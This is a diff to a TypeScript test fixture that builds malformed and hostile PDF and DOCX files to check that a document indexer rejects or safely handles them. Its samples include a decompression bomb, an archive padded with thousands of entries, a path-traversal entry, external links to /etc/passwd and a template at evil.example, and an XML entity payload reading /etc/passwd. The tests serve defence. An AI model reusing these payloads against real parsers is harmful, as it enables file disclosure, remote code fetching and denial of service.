@@ -27,6 +27,21 @@ async function pdf(words: string, change: (document: PDFDocument) => unknown = (
 const action = (document: PDFDocument, kind: string, key: string, value: string) =>
   document.context.obj({ Type: 'Action', S: PDFName.of(kind), [key]: PDFString.of(value) })
 
+/** A document whose archive lists one empty part that many times; its bytes stay few. */
+function crowded(count: number): Buffer {
+  const bytes = packed({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', 'word/x': '' })
+  // Places within the end record: entries here at 8, entries in all at 10, size of the list at 12, its place at 16.
+  const end = bytes.length - 22
+  const list = bytes.subarray(bytes.readUInt32LE(end + 16), end)
+  const last = list.subarray(list.lastIndexOf('PK\x01\x02', undefined, 'latin1'))
+  const longer = Buffer.concat([list, ...Array.from({ length: count }, () => last)])
+  const tail = Buffer.from(bytes.subarray(end))
+  tail.writeUInt16LE(count + 3, 8)
+  tail.writeUInt16LE(count + 3, 10)
+  tail.writeUInt32LE(longer.length, 12)
+  return Buffer.concat([bytes.subarray(0, end - list.length), longer, tail])
+}
+
 const paragraph = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`
 const mail = (body: string, headers = '') =>
   Buffer.from(
@@ -61,7 +76,7 @@ export async function hostileFiles(): Promise<HostileFile[]> {
     { row: 'B45', name: 'loop.pdf', bytes: loop, state: 'failed' },
     { row: 'B45', name: 'many-declared.pdf', bytes: Buffer.from(whole.toString('latin1').replace(/\/Count 1/, '/Count 999999999'), 'latin1'), state: 'indexed', has: 'Harbour words' },
     { row: 'B46', name: 'bomb.docx', bytes: packedDocx(paragraph('a'.repeat(8_000_000))), state: 'skipped', reason: /unpacks to far more/ },
-    { row: 'B46', name: 'entries.docx', bytes: packed(Object.fromEntries([['[Content_Types].xml', '<Types/>'], ['word/document.xml', '<w:document/>'], ...Array.from({ length: 20_050 }, (_, i) => [`word/x${i}`, ''] as const)])), state: 'skipped' },
+    { row: 'B46', name: 'entries.docx', bytes: crowded(20_050), state: 'skipped', reason: /files in one archive/ },
     { row: 'B47', name: 'outside.docx', bytes: packedDocx(paragraph('Inner words'), { '../../escaped.txt': 'evil', 'word/_rels/document.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>' }), state: 'indexed', has: 'Inner words', hasNot: 'root:' },
     { row: 'B48', name: 'entities.docx', bytes: packed({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><w:document><w:body><w:p><w:r><w:t>&b;&c;</w:t></w:r></w:p></w:body></w:document>' }), state: 'skipped', reason: /harm/ },
     { row: 'B49', name: 'hollow.docx', bytes: packed({ '[Content_Types].xml': '<Types/>' }), state: 'failed' },
